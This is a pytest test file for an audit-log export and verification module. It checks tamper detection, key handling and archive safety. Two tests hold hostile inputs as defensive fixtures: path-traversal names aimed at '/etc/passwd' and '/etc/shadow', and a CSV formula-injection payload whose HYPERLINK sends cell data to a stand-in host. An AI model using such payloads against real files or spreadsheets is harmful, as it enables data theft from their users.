"""Exports: checked far away from the bridge, complete by rule, and every change of them found."""

import csv
import json
import shutil
import zipfile
from collections.abc import Callable
from importlib import metadata
from pathlib import Path
from typing import Any

import pytest

from bridge.audit import export, seal, verify_export
from bridge.audit.export import Chosen, Exported, ExportImpossible
from bridge.audit.keys import Keys
from bridge.audit.note import known
from bridge.audit.rule_texts import digest
from bridge.audit.verify import Report
from bridge.audit.verify_export import ExportUnreadable
from bridge.store import Store, journal, registers
from bridge.store.journal import Kind

TEXTS = {"escalate.toml": "title = 'Escalate'\n", "lib/shared.py": "LIMIT = 3\n"}


@pytest.fixture
def written(log: Any, tmp_path: Path) -> Callable[..., Path]:
    """Write an export of the log; the parts chosen are arguments."""

    def write(name: str = "log.zip", **chosen: str) -> Path:
        export.write_zip(log.store, tmp_path / name, Chosen(**chosen), "mia", log.keys.vkeys())
        return tmp_path / name

    return write


def checked(path: Path, log: Any, outside: list[str] | None = None, vkeys: list[str] | None = None) -> Report:
    """Verify an export with the log's keys, or with these."""
    return verify_export.of_export(path, known(log.keys.vkeys() if vkeys is None else vkeys), outside)


def rewritten(path: Path, name: str, change: Callable[[str], str]) -> Path:
    """Return a copy of an export in which one file was changed."""
    changed = path.with_name("changed.zip")
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(changed, "w") as new:
        for each in old.namelist():
            text = old.read(each).decode()
            new.writestr(each, change(text) if each == name else text)
    return changed


def test_a_whole_export_is_verified_without_the_store(log: Any, written: Callable[..., Path]) -> None:
    outside, path = log.notes(), written()
    moved = path.with_name("elsewhere.zip")
    shutil.move(path, moved)
    log.store.close()
    inside = checked(moved, log)
    assert (inside.status, inside.failures, inside.outside) == (0, [], None)
    report = checked(moved, log, outside)
    assert (report.status, report.failures, report.found.entries, report.found.with_text) == (0, [], 49, 49)


def test_an_export_of_one_rule_shows_that_no_entry_of_it_is_missing_and_no_text_of_another(
    log: Any, written: Callable[..., Path]
) -> None:
    path = written(rule="escalate")
    report = checked(path, log)
    assert (report.status, report.failures) == (0, [])
    assert report.remarks == ["rule escalate: all of its 24 entries are here"]
    with zipfile.ZipFile(path) as opened:
        lines = opened.read("entries.jsonl").decode().splitlines()
        rules = {json.loads(line)["entry"].get("rule") for line in lines}
        assert rules == {"escalate", None}, "that of no rule says who began the log, with which key"
        assert len(opened.read("leaves.txt").decode().splitlines()) == 49
    less = rewritten(path, "entries.jsonl", lambda text: "".join(text.splitlines(keepends=True)[:-1]))
    assert any("(rule escalate #24): the entry is gone" in text for text in checked(less, log).failures)


def test_an_export_by_time_says_that_completeness_cannot_be_shown(log: Any, written: Callable[..., Path]) -> None:
    report = checked(written(since="2020-01-01T00:00:00.000000Z", until="2999-01-01T00:00:00.000000Z"), log)
    assert (report.status, report.failures) == (0, [])
    assert "that none is missing can be shown only without --since and --until" in report.remarks[0]


@pytest.mark.parametrize(
    ("file", "old", "new", "found"),
    [
        ("entries.jsonl", '"target":"OPS-1"', '"target":"HR-1"', "entry text edited"),
        ("leaves.txt", '"rule_seq":1,"seq":1}', '"rule_seq":2,"seq":1}', "#1 is missing before leaf 1"),
        ("checkpoints.jsonl", "\\n33\\n", "\\n32\\n", "checkpoint 3"),
        ("manifest.json", '"size": 49', '"size": 50', "says that it has 50 leaves, and has 49"),
    ],
)
def test_a_changed_export_is_found(
    log: Any, written: Callable[..., Path], file: str, old: str, new: str, found: str
) -> None:
    path = rewritten(written(), file, lambda text: text.replace(old, new, 1))
    report = checked(path, log)
    assert report.status == 1
    assert any(found in text for text in report.failures)


def test_an_export_whose_tail_was_cut_fails_by_its_own_checkpoints_or_by_those_from_outside(
    log: Any, written: Callable[..., Path]
) -> None:
    path = rewritten(written(), "leaves.txt", lambda text: "".join(text.splitlines(keepends=True)[:33]))
    path = rewritten(path.rename(path.with_name("cut.zip")), "entries.jsonl", lambda text: _first(text, 33))
    assert any("the tail was cut" in text for text in checked(path, log).failures)
    path = rewritten(path.rename(path.with_name("cut.zip")), "checkpoints.jsonl", lambda text: _first(text, 2))
    path = rewritten(path.rename(path.with_name("cut.zip")), "manifest.json", lambda t: t.replace(": 49", ": 33"))
    assert checked(path, log).failures == []
    assert checked(path, log, log.notes()).failures == [
        "outside checkpoint says 49 entries, the log has 33: tail cut or restored from an old backup"
    ]


def _first(text: str, count: int) -> str:
    return "".join(text.splitlines(keepends=True)[:count])


def test_the_rule_texts_that_entries_name_are_in_it_and_held_against_their_digests(
    log: Any, written: Callable[..., Path]
) -> None:
    named = digest(TEXTS, metadata.version("bridge"))
    log.store.commit(lambda connection: registers.keep_rule(connection, "escalate", named, TEXTS, None))
    log.seal()
    path = written(rule="escalate")
    place = f"rules/escalate/{named.removeprefix('sha256:')}"
    with zipfile.ZipFile(path) as opened:
        assert {name: opened.read(f"{place}/{name}").decode() for name in TEXTS} == TEXTS
    assert checked(path, log).status == 0
    changed = rewritten(path, f"{place}/lib/shared.py", lambda text: text.replace("3", "300"))
    assert any("rule escalate: the text kept as sha256:" in text for text in checked(changed, log).failures)


def test_no_name_in_an_export_leads_out_of_where_it_is_unpacked(log: Any, written: Callable[..., Path]) -> None:
    texts = {"../../etc/passwd": "x", "/etc/shadow": "y"}
    log.store.commit(lambda connection: registers.keep_rule(connection, "../up", "sha256:ab", texts, None))
    log.seal()
    with zipfile.ZipFile(written()) as opened:
        unsafe = [name for name in opened.namelist() if name.startswith("/") or ".." in name.split("/")]
    assert unsafe == []


def test_an_export_after_the_key_changed_hands_is_verified_with_the_first_public_key(
    log: Any, written: Callable[..., Path]
) -> None:
    first = log.keys.vkeys()
    seal.rotate(log.store, log.keys, "mia")
    log.write(1)
    log.seal()
    report = checked(written(rule="escalate"), log, log.notes(), vkeys=first)
    assert (report.status, report.failures) == (0, [])
    assert (report.found.valid, report.found.checkpoints) == (5, 5)


def test_without_a_key_the_one_that_came_with_it_is_believed_and_that_is_said(
    log: Any, written: Callable[..., Path]
) -> None:
    report = checked(written(), log, vkeys=[])
    assert (report.status, report.failures) == (0, [])
    assert report.remarks[0] == ("the public key came with the export: compare it with the one that was kept elsewhere")


def test_another_logs_key_does_not_verify_it(log: Any, written: Callable[..., Path], tmp_path: Path) -> None:
    other = str(Keys(tmp_path / "other").make("bridge.example/actions").verifier)
    report = checked(written(), log, vkeys=[other])
    assert report.status == 1
    assert "which no key that was given vouches for" in report.failures[0]


SPOILT: dict[str, Callable[[Path], object]] = {
    "no zip": lambda path: path.write_bytes(b"no zip"),
    "cut": lambda path: path.write_bytes(path.read_bytes()[:-200]),
    "empty": lambda path: zipfile.ZipFile(path, "w").close(),
    "manifest": lambda path: rewritten(path, "manifest.json", lambda _: "{").replace(path),
    "leaves": lambda path: rewritten(path, "leaves.txt", lambda text: text.replace("{", "[", 1)).replace(path),
    "entries": lambda path: rewritten(path, "entries.jsonl", lambda text: text.replace("{", "{ ", 1)).replace(path),
    "notes": lambda path: rewritten(path, "checkpoints.jsonl", lambda text: text.replace("—", "-", 1)).replace(path),
}


@pytest.mark.parametrize("spoil", SPOILT.values(), ids=SPOILT.keys())
def test_a_file_that_is_no_whole_export_is_not_told_about(
    log: Any, written: Callable[..., Path], spoil: Callable[[Path], object]
) -> None:
    path = written()
    spoil(path)
    with pytest.raises(ExportUnreadable, match="is no whole export"):
        checked(path, log)


def test_who_exported_what_stands_in_the_log_before_the_file_does(log: Any, written: Callable[..., Path]) -> None:
    export.note_export(log.store, Chosen(rule="escalate"), "zip", "mia")
    log.seal()
    with zipfile.ZipFile(written()) as opened:
        last = json.loads(opened.read("entries.jsonl").decode().splitlines()[-1])["entry"]
        manifest = json.loads(opened.read("manifest.json"))
    assert (last["kind"], last["person"], last["of"], "rule" in last) == (str(Kind.EXPORTED), "mia", "escalate", False)
    assert (manifest["exported_by"], manifest["rule"], manifest["size"]) == ("mia", None, 50)


def test_what_is_not_sealed_is_left_out_and_counted(log: Any, tmp_path: Path) -> None:
    log.write(1)
    made = export.write_zip(log.store, tmp_path / "log.zip", Chosen(), "mia", log.keys.vkeys())
    assert made == Exported(entries=49, leaves=49, left_out=4)
    assert (tmp_path / "log.zip").stat().st_mode & 0o777 == 0o600


def test_where_nothing_is_sealed_there_is_nothing_to_export(store: Store, tmp_path: Path) -> None:
    with pytest.raises(ExportImpossible, match="nothing is sealed"):
        export.write_zip(store, tmp_path / "log.zip", Chosen(), "mia", [])
    assert list(tmp_path.glob("*log.zip*")) == []


def test_a_place_that_cannot_be_written_is_said(log: Any, tmp_path: Path) -> None:
    with pytest.raises(ExportImpossible, match="cannot be written"):
        export.write_zip(log.store, tmp_path / "absent" / "log.zip", Chosen(), "mia", [])


def test_lines_for_people_hold_every_entry_also_those_not_sealed_yet(log: Any, tmp_path: Path) -> None:
    log.write(1)
    path = tmp_path / "log.jsonl"
    assert export.write_lines(log.store, path, Chosen(), "jsonl").entries == 53
    said = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert [each["seq"] for each in said] == [*range(49), None, None, None, None]
    assert said[4]["entry"]["kind"] == "delivery:done"


def test_a_table_for_a_spreadsheet_holds_no_formula(log: Any, tmp_path: Path) -> None:
    evil = '=HYPERLINK("https://evil.example/?"&A1)'
    log.store.commit(lambda connection: journal.append(connection, Kind.PAUSED, what="all", person=evil, why="@SUM(1)"))
    path = tmp_path / "log.csv"
    assert export.write_lines(log.store, path, Chosen(), "csv").entries == 50
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert (rows[-1]["person"], rows[-1]["why"]) == (f"'{evil}", "'@SUM(1)")
    assert (rows[2]["rule"], rows[2]["verb"], rows[2]["target"], rows[2]["seq"]) == (
        "escalate", "jira.comment", "OPS-1", "2",
    )  # fmt: skip
    assert json.loads(rows[2]["entry"])["kind"] == "step:intent"
